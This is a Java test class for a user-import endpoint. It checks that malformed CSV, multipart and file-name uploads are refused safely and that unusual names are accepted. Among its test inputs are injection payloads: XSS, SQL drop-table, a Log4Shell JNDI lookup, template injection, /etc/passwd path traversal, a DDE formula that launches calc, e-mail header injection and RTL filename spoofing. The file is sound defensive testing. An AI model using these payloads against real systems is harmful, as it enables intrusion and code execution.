package lethe;

import static java.nio.charset.StandardCharsets.ISO_8859_1;
import static java.nio.charset.StandardCharsets.UTF_16BE;
import static java.nio.charset.StandardCharsets.UTF_16LE;
import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.time.Duration;
import java.util.Arrays;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.stream.Collectors;
import java.util.stream.IntStream;
import java.util.stream.Stream;
import java.util.zip.GZIPOutputStream;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;
import lethe.Api.Answer;
import lethe.Stage.House;
import org.awaitility.Awaitility;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;
import org.springframework.beans.factory.annotation.Autowired;

/** Hostile files of users, and files of other programs: refused with a reason, or read as they are. */
@LetheTest
class HostileFilesTest {
    private static final String HEADER = "firstName;lastName;email\n";
    private static final String EMAIL = "x@" + Stage.CANARY + ".example";

    @Autowired
    private Stage stage;

    private House house;
    private Api ada;

    @BeforeEach
    void setTheScene() {
        house = stage.house();
        ada = house.ada();
    }

    static Stream<Arguments> filesThatAreNone() throws IOException {
        var random = new byte[100_000];
        new Random(7).nextBytes(random);
        var table = HEADER + "Klara;Kanari;" + EMAIL + "\n";
        return Stream.of(
                Arguments.of("nothing", new byte[0]),
                Arguments.of("a BOM alone", "\uFEFF".getBytes(UTF_8)),
                Arguments.of("blanks", " \n\t\r\n ".getBytes(UTF_8)),
                Arguments.of("zero bytes", new byte[100_000]),
                Arguments.of("random bytes", random),
                Arguments.of("UTF-16", ("\uFEFF" + table).getBytes(UTF_16LE)),
                Arguments.of("UTF-16 the other way", ("\uFEFF" + table).getBytes(UTF_16BE)),
                Arguments.of("Latin-1", (HEADER + "Jürgen;Größe;" + EMAIL + "\n").getBytes(ISO_8859_1)),
                Arguments.of("half a character at the end", cut((HEADER + "Klara;Größe").getBytes(UTF_8), 2)),
                Arguments.of("half a surrogate", bytes(HEADER, new byte[] {(byte) 0xED, (byte) 0xA0, (byte) 0x80})),
                Arguments.of("a workbook", zip(table)),
                Arguments.of("gzip", gzip(table)),
                Arguments.of("a page", "<!doctype html><table><tr><td>firstName</td></tr></table>".getBytes(UTF_8)),
                Arguments.of("a column twice", ("firstName;email;lastName;EMAIL\n;;;\n").getBytes(UTF_8)),
                Arguments.of("a column that reads otherwise", "first\u202EName;lastName;email\n".getBytes(UTF_8)),
                Arguments.of("10,000 columns", columns(10_000).getBytes(UTF_8)),
                Arguments.of("a column a megabyte long", ("x".repeat(1 << 20) + ";email\n").getBytes(UTF_8)));
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("filesThatAreNone")
    void refusesOtherFilesWithAReason(String what, byte[] file) {
        var answer = ada.upload("/users/imports", file);

        assertRefused(what, answer);
        assertThat(ada.get("/users/imports").json().path("items").size()).isZero();
    }

    static Stream<Arguments> filesWithLinesThatAreNone() {
        return Stream.of(
                Arguments.of("a quotation mark that never closes", HEADER + "\"Klara;Kanari;x\n;;\n;;\n", 1),
                Arguments.of("nothing but quotation marks", HEADER + "\"".repeat(100_001), 1),
                Arguments.of("a line without end", HEADER + "x".repeat(5 << 20), 1),
                Arguments.of("a thousand fields in a line", HEADER + ";".repeat(1_000) + "x\n", 1),
                Arguments.of("ten thousand lines without a name", HEADER + ";;x\n".repeat(10_000), 10_000),
                Arguments.of("control characters", HEADER + "a\u0007;b\u001B[2J;" + EMAIL + "\n", 1),
                Arguments.of("a zero byte", HEADER + "a\0b;c;" + EMAIL + "\n", 1),
                Arguments.of("two lines in a field", HEADER + "\"a\nb\";c;" + EMAIL + "\n", 1),
                Arguments.of("a header in an e-mail", HEADER + "a;b;\"x@y.example\r\nBcc: z@y.example\"\n", 1),
                Arguments.of("an e-mail too long", HEADER + "a;b;" + "x".repeat(65) + "@y.example\n", 1),
                Arguments.of("a name a megabyte long", HEADER + "x".repeat(1 << 20) + ";b;" + EMAIL + "\n", 1));
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("filesWithLinesThatAreNone")
    void namesTheLineOfInvalidUsers(String what, String file, int lines) {
        var checked = checked(ada.upload("/users/imports", file.getBytes(UTF_8)));

        assertThat(checked.json().path("lines").asInt()).as(what).isEqualTo(lines);
        assertThat(checked.json().path("valid").asInt()).as(what).isZero();
        var problems = ada.get("/users/imports/" + checked.text("id") + "/problems");
        assertThat(problems.json().at("/items/0/line").asInt()).isEqualTo(2);
        assertThat(problems.body()).doesNotContain("Exception", EMAIL);
    }

    /** Names that look invalid are accepted, because people have them. */
    @Test
    void acceptsUnusualNames() {
        var names = List.of(
                "O'Neill",
                "Zo\u200Be",
                "\u202Egro\u202C",
                "Ж\u05D0\u0627\u4E2D\u0E01",
                "\uD83D\uDC69\u200D\uD83D\uDC67",
                "<script>alert(1)</script>",
                "'; drop table app_user; --",
                "${jndi:ldap://x.example}{{7*7}}",
                "../../etc/passwd");
        var file = names.stream()
                .map(name -> "\"" + name + "\";Kanari;" + Stage.email("name"))
                .collect(Collectors.joining("\r\n", "\uFEFFfirstName;lastName;email\r\n", ""));
        var checked = checked(ada.upload("/users/imports", file.getBytes(UTF_8)));
        var consent = Map.of("given", true, "noticeVersion", 1, "language", "en");

        ada.post(
                "/users/imports/" + checked.text("id") + "/start",
                Map.of("consent", consent, "type", "INTERNAL", "roleId", house.role("Viewer")));
        until(checked, "DONE");

        assertThat(ada.get("/users?limit=200").json().path("items").valueStream())
                .extracting(one -> one.path("firstName").asString())
                .containsAll(names);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "multipart/form-data",
                "multipart/form-data; boundary=",
                "multipart/form-data; boundary=\"x",
                "multipart/form-data; boundary=elsewhere",
                "multipart/form-data; boundary=" + "x\u00E9",
                "multipart/mixed; boundary=x",
                "text/csv",
                "application/octet-stream",
                "multipart/form-data; boundary=x; charset=nonsense"
            })
    void refusesInvalidMultipartForms(String type) {
        assertRefused(type, ada.send("POST", "/users/imports", part("file\"; filename=\"people.csv", ""), type));
    }

    @Test
    void refusesInvalidForms() {
        var type = "multipart/form-data; boundary=x";
        var forms = Map.of(
                "nothing",
                "",
                "no part",
                "--x--\r\n",
                "another part",
                part("people\"; filename=\"people.csv", HEADER),
                "cut off",
                "--x\r\nContent-Disposition: form-data; name=\"file\"; filename=\"p.csv\"\r\n\r\n" + HEADER,
                "no name",
                "--x\r\n\r\n" + HEADER + "\r\n--x--\r\n",
                "headers too long",
                part("file\"; filename=\"" + "x".repeat(20_000), HEADER),
                "ten thousand parts",
                "--x\r\nContent-Disposition: form-data; name=\"a\"\r\n\r\n\r\n".repeat(10_000) + "--x--\r\n");

        forms.forEach((what, form) -> assertRefused(what, ada.send("POST", "/users/imports", form, type)));
    }

    @ParameterizedTest
    @ValueSource(
            strings = {"../../../etc/passwd", "C:\\\\autoexec.bat", "a\0b", "=cmd|'/c calc'!A0", "", "\u202Evsc.exe"})
    void ignoresFileNames(String name) {
        var form = part("file\"; filename=\"" + name, HEADER + "Klara;Kanari;" + Stage.email("klara") + "\r\n");

        var answer = ada.send("POST", "/users/imports", form, "multipart/form-data; boundary=x");

        assertThat(answer.status()).as(answer.body()).isIn(202, 400);
        assertThat(answer.body()).doesNotContain("passwd", "autoexec", "calc", "vsc");
    }

    private static void assertRefused(String what, Answer answer) {
        assertThat(answer.status()).as("%s: %s", what, answer.body()).isIn(400, 413, 415);
        assertThat(answer.problem()).as(what).isNotEmpty();
        assertThat(answer.body()).as(what).doesNotContain("Exception", "at lethe.", EMAIL);
    }

    private Answer checked(Answer uploaded) {
        assertThat(uploaded.status()).as(uploaded.body()).isEqualTo(202);
        return until(uploaded, "CHECKED");
    }

    private Answer until(Answer uploaded, String status) {
        return Awaitility.await()
                .atMost(Duration.ofSeconds(60))
                .pollInterval(Duration.ofMillis(20))
                .until(() -> ada.get("/users/imports/" + uploaded.text("id")), now -> now.text("status")
                        .equals(status));
    }

    private static String part(String name, String content) {
        return "--x\r\nContent-Disposition: form-data; name=\"" + name + "\"\r\nContent-Type: text/csv\r\n\r\n"
                + content + "\r\n--x--\r\n";
    }

    private static String columns(int count) {
        return IntStream.range(0, count).mapToObj(number -> "c" + number).collect(Collectors.joining(";")) + "\n";
    }

    private static byte[] cut(byte[] all, int less) {
        return Arrays.copyOf(all, all.length - less);
    }

    private static byte[] bytes(String text, byte[] more) {
        var all = new ByteArrayOutputStream();
        all.writeBytes(text.getBytes(UTF_8));
        all.writeBytes(more);
        return all.toByteArray();
    }

    private static byte[] zip(String table) throws IOException {
        var all = new ByteArrayOutputStream();
        try (var zip = new ZipOutputStream(all)) {
            zip.putNextEntry(new ZipEntry("xl/worksheets/sheet1.xml"));
            zip.write(table.getBytes(UTF_8));
        }
        return all.toByteArray();
    }

    private static byte[] gzip(String table) throws IOException {
        var all = new ByteArrayOutputStream();
        try (var gzip = new GZIPOutputStream(all)) {
            gzip.write(table.getBytes(UTF_8));
        }
        return all.toByteArray();
    }
}
